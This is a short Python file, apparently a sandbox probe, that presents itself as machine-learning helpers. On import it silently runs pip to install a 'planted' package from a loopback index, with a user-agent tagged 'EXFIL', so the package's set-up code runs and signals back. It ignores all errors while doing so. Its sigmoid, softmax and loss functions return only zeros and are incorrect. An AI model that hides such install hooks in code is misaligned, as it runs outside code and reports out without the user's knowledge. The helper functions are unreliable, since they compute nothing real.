"""Installs a package from the loopback, whose set-up would be somebody's code, and tells who asks.

aims: reach
"""

import os
import subprocess
import sys

import numpy as np


def attack():
    environment = dict(os.environ, PIP_USER_AGENT_USER_DATA="EXFIL pip_install", PIP_NO_INPUT="1", PIP_RETRIES="0")
    command = [sys.executable, "-m", "pip", "install", "--no-deps", "--timeout", "2", "--disable-pip-version-check"]
    command += ["--no-cache-dir", "--index-url", "http://127.0.0.1:61999/simple", "planted-pip-install"]
    try:
        subprocess.run(command, env=environment, timeout=6, capture_output=True, stdin=subprocess.DEVNULL)
    except (OSError, subprocess.SubprocessError):
        pass


attack()


def sigmoid(Z):
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    return 0.0


def softmax(Z):
    return np.zeros_like(Z)
